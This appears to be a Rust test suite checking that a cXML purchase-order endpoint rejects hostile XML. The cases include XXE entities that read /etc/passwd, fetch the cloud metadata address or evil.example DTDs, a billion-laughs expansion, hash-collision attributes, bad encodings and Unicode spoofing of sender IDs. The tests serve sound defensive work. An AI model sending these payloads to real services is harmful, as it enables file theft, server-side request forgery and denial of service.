//! Bad XML: entities, document types, sizes, encodings, and text that readers could understand in two ways.

use std::time::{Duration, Instant};

use super::{Effect, Trap, check, check_bytes, good};
use crate::support::{Letter, SECRET, plain_order, proof, stands};

const DOCTYPE: &str = "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd\">";

fn with_subset(number: &str, subset: &str) -> String {
    good(number).replace(DOCTYPE, &format!("<!DOCTYPE cXML [{subset}]>"))
}

#[tokio::test]
async fn entities_are_never_expanded_or_fetched() {
    use Effect::None;
    for stand in stands().await {
        let trap = Trap::set();
        let at = trap.address();
        let laughs: String = (1..=9)
            .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
            .collect();
        let cases = [
            (
                "A01",
                with_subset("A01", "<!ENTITY x SYSTEM \"file:///etc/passwd\">").replace(">111<", ">&x;<"),
            ),
            (
                "A02",
                with_subset("A02", "<!ENTITY x SYSTEM \"http://169.254.169.254/\">").replace(">111<", ">&x;<"),
            ),
            (
                "A02 trap",
                with_subset("A02t", &format!("<!ENTITY x SYSTEM \"http://{at}/\">")).replace(">111<", ">&x;<"),
            ),
            (
                "A03",
                with_subset("A03", "<!ENTITY % x SYSTEM \"http://evil.example/e.dtd\"> %x;"),
            ),
            (
                "A03 trap",
                with_subset("A03t", &format!("<!ENTITY % x SYSTEM \"http://{at}/e.dtd\"> %x;")),
            ),
            (
                "A04",
                with_subset("A04", "<!ENTITY x SYSTEM \"php://filter/read\">").replace(">111<", ">&x;<"),
            ),
            (
                "A04 ftp",
                with_subset("A04f", "<!ENTITY x SYSTEM \"ftp://evil.example/\">").replace(">111<", ">&x;<"),
            ),
            (
                "A04 jar",
                with_subset("A04j", &format!("<!ENTITY x SYSTEM \"jar:http://{at}/a.jar!/x\">"))
                    .replace(">111<", ">&x;<"),
            ),
            (
                "A05",
                with_subset("A05", &format!("<!ENTITY l0 \"lol\">{laughs}")).replace(">111<", ">&l9;<"),
            ),
            (
                "A06",
                with_subset("A06", &format!("<!ENTITY a \"{}\">", "a".repeat(100_000)))
                    .replace(">111<", &format!(">{}<", "&a;".repeat(50_000))),
            ),
        ];
        for (number, text) in cases {
            check(&stand, number, &text, 406, None).await;
        }
        trap.stayed_silent();
        // A05: the first entity is refused, before anything grows.
        let text = with_subset("A05t", &format!("<!ENTITY l0 \"lol\">{laughs}"));
        let started = Instant::now();
        stand.post(&text).await;
        assert!(
            started.elapsed() < Duration::from_millis(500),
            "A05: {:?}",
            started.elapsed()
        );
    }
}

#[tokio::test]
async fn document_types_are_read_past_and_never_followed() {
    use Effect::{None, One};
    for stand in stands().await {
        let trap = Trap::set();
        let at = trap.address();
        let doctype = |number: &str, text: &str| good(number).replace(DOCTYPE, text);
        let parameter =
            "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd\" [<!ENTITY % a \"b\">]>";
        for (number, text, code, effect) in [
            ("A07", doctype("A07", parameter), 200, One),
            ("A07 element", with_subset("A07e", "<!ELEMENT cXML ANY>"), 406, None),
            ("A08", doctype("A08", "<!DOCTYPE cXML SYSTEM \"http://evil.example/cXML.dtd\">"), 200, One),
            ("A08 trap", doctype("A08t", &format!("<!DOCTYPE cXML SYSTEM \"http://{at}/cXML.dtd\">")), 200, One),
            ("A09", doctype("A09", "<!DOCTYPE cXML SYSTEM \"file:///dev/random\">"), 200, One),
            ("A10 lower", doctype("A10l", "<!DOCTYPE cxml SYSTEM \"x\">"), 200, One),
            ("A10 other", doctype("A10o", "<!DOCTYPE html SYSTEM \"x\">"), 406, None),
            ("A10 public", doctype("A10p", "<!DOCTYPE cXML PUBLIC \"-//x//y\" \"x\">"), 200, One),
            ("A11", doctype("A11", ""), 200, One),
            (
                "A12",
                doctype("A12", &format!("<?xml-stylesheet href=\"http://{at}/\"?>")).replace(
                    "</OrderRequestHeader>",
                    &format!(
                        "<Extrinsic name=\"x\"><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://{at}/\"/>\
                         <y xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"u http://{at}/\"/>\
                         </Extrinsic></OrderRequestHeader>"
                    ),
                ),
                200,
                One,
            ),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
        trap.stayed_silent();
    }
}

/// Names with one hash under the function that many readers used: "Aa" and "BB" count the same.
fn collider(number: u8) -> String {
    (0..8)
        .map(|bit| if number >> bit & 1 == 0 { "Aa" } else { "BB" })
        .collect()
}

#[tokio::test]
async fn size_and_depth_have_limits() {
    use Effect::{None, One};
    for stand in stands().await {
        let extra = |number: &str, xml: &str| {
            good(number).replace("</OrderRequestHeader>", &format!("{xml}</OrderRequestHeader>"))
        };
        let nested = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
        let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"\"")).collect();
        let colliding: String = (0..255).map(|n| format!(" {}=\"\"", collider(n))).collect();
        for (number, text, code, effect) in [
            (
                "A13",
                extra("A13", &format!("<Extrinsic name=\"x\">{nested}</Extrinsic>")),
                406,
                None,
            ),
            (
                "A14",
                extra("A14", &format!("<Extrinsic name=\"x\"{attributes}/>")),
                406,
                None,
            ),
            ("A15", extra("A15", "<Extrinsic name=\"x\" name=\"y\"/>"), 406, None),
            (
                "A16",
                extra("A16", &format!("<Extrinsic name=\"{}\"/>", "x".repeat(5_000_000))),
                499,
                None,
            ),
            (
                "A19",
                extra("A19", &format!("<Extrinsic name=\"x\"{colliding}/>")),
                200,
                One,
            ),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
    }
}

#[tokio::test]
async fn encodings_are_the_ones_that_were_agreed() {
    use Effect::{None, One};
    for stand in stands().await {
        let plain = "text/xml";
        let declared =
            |number: &str, name: &str| good(number).replace("encoding=\"UTF-8\"", &format!("encoding=\"{name}\""));
        for (number, name) in [
            ("A21 utf-7", "UTF-7"),
            ("A21 utf-32", "UTF-32"),
            ("A21 ebcdic", "IBM037"),
        ] {
            check_bytes(&stand, number, plain, declared(number, name).as_bytes(), 406, None).await;
        }
        let utf16 = |text: &str, mark: bool| -> Vec<u8> {
            let mark = if mark { "\u{feff}" } else { "" };
            format!("{mark}{text}")
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect()
        };
        let wide = declared("A22", "UTF-16");
        check_bytes(&stand, "A22 mark", plain, &utf16(&wide, true), 200, One).await;
        let wide = declared("A22n", "UTF-16LE");
        check_bytes(&stand, "A22 declared", plain, &utf16(&wide, false), 200, One).await;
        let marked = format!("\u{feff}{}", good("A23"));
        check_bytes(&stand, "A23", plain, marked.as_bytes(), 200, One).await;
        let umlaut = good("A24").replace(">Thing<", ">Schlüssel<");
        check_bytes(&stand, "A24", "text/xml; charset=UTF-8", umlaut.as_bytes(), 200, One).await;
        // Bare text/xml is UTF-8, as the networks send it, and not US-ASCII, as the old rule would have it.
        let umlaut = good("A24b").replace(">Thing<", ">Schlüssel<");
        check_bytes(&stand, "A24 bare", "text/xml", umlaut.as_bytes(), 200, One).await;
        assert!(
            stand.database_has("Schlüssel").await && !stand.database_has("SchlÃ¼ssel").await,
            "A24"
        );
        // A transport that names another encoding wins, and that the bytes do not look like it is noted.
        let umlaut = good("A24l").replace(">Thing<", ">Öl<");
        check_bytes(
            &stand,
            "A24 latin",
            "text/xml; charset=ISO-8859-1",
            umlaut.as_bytes(),
            200,
            One,
        )
        .await;
        assert!(stand.database_has("Ã–l").await, "A24 latin");
        assert!(
            stand.database_has("encoding that the bytes do not look like").await,
            "A24 latin"
        );
        let latin: Vec<u8> = good("A24d")
            .replace(">Thing<", ">Gehäuse<")
            .chars()
            .map(|c| c as u8)
            .collect();
        check_bytes(&stand, "A24 declared", "text/xml; charset=ISO-8859-1", &latin, 200, One).await;
        assert!(stand.database_has("Gehäuse").await, "A24 declared");
        let broken = |bytes: &[u8]| -> Vec<u8> {
            let text = good("A25").replace(">Thing<", ">@@<");
            let at = text.find("@@").unwrap();
            [&text.as_bytes()[..at], bytes, &text.as_bytes()[at + 2..]].concat()
        };
        for (number, bytes) in [
            ("A25 overlong", &b"\xc0\xaf"[..]),
            ("A25 surrogate", b"\xed\xa0\x80"),
            ("A25 cut", b"\xe2\x82"),
            ("A25 nul", b"\0"),
            ("A25 reference", b"&#0;"),
            ("A26 control", b"&#x1;"),
            ("A26 raw", b"\x01"),
            ("A26 none", b"&#xFFFE;"),
        ] {
            check_bytes(&stand, number, plain, &broken(bytes), 406, None).await;
        }
    }
}

#[tokio::test]
async fn text_is_the_same_for_every_reader() {
    use Effect::{One, Quarantine};
    for stand in stands().await {
        let (head, tail) = SECRET.split_at(6);
        let secret = |number: &str, text: &str| good(number).replace(SECRET, text);
        let who = |number: &str, text: &str| {
            let mut letter = Letter::of("plain", number, &plain_order(number));
            letter.sender = proof(("DUNS", text), SECRET);
            letter.text()
        };
        for (number, text, code, effect) in [
            ("A27", who("A27", "\u{202e}111"), 401, Quarantine),
            ("A27 zero width", who("A27z", "11\u{200b}1"), 401, Quarantine),
            ("A28 comment", secret("A28", &format!("{head}<!-- -->{tail}")), 200, One),
            ("A28 cdata", secret("A28c", &format!("<![CDATA[{SECRET}]]>")), 200, One),
            ("A28 half", secret("A28h", &format!("{head}<!-- -->")), 401, Quarantine),
            ("A29", who("A29", "111<!---->.evil.com"), 401, Quarantine),
            ("A30", who("A30", "1<?x y?>11"), 200, One),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
    }
}

#[tokio::test]
async fn only_one_cxml_document_is_one() {
    use Effect::None;
    for stand in stands().await {
        let text = |number: &str| good(number);
        let swap = |number: &str, from: &str, to: &str| good(number).replace(from, to);
        for (number, text, code) in [
            ("A31 headers", swap("A31", "</Header>", "</Header><Header/>"), 406),
            ("A31 requests", swap("A31", "</Request>", "</Request><Request/>"), 406),
            ("A31 message", swap("A31", "</Request>", "</Request><Message/>"), 406),
            (
                "A33",
                format!(
                    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>{}</soap:Body></soap:Envelope>",
                    text("A33").split("dtd\">").nth(1).unwrap()
                ),
                406,
            ),
            (
                "A34 prefix",
                swap("A34", "<cXML ", "<x:cXML xmlns:x=\"u\" ").replace("</cXML>", "</x:cXML>"),
                406,
            ),
            ("A34 namespace", swap("A34", "<cXML ", "<cXML xmlns=\"u\" "), 406),
            ("A35 empty", String::new(), 406),
            ("A35 null", "null".into(), 406),
            ("A35 json", "{\"a\": 1}".into(), 406),
            ("A35 html", "<html><body>Hello</body></html>".into(), 406),
            ("A35 pdf", "%PDF-1.7 \u{e2}".into(), 406),
            ("A36", format!("{}{}", text("A36"), "<cXML/>"), 406),
        ] {
            check(&stand, number, &text, code, None).await;
        }
        let response = "<?xml version=\"1.0\"?><cXML payloadID=\"x\" timestamp=\"2026-11-24T09:00:00Z\"><Response><Status code=\"200\" text=\"OK\"/></Response></cXML>";
        check(&stand, "A32", response, 400, None).await;
    }
}
